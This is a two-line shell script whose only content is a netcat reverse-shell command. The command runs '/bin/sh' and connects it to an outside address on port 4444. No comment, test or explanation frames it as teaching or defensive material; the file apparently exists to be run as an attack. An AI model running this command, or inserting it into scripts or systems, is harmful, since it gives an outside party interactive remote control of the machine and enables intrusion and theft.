#!/bin/sh
nc -e /bin/sh 203.0.113.7 4444
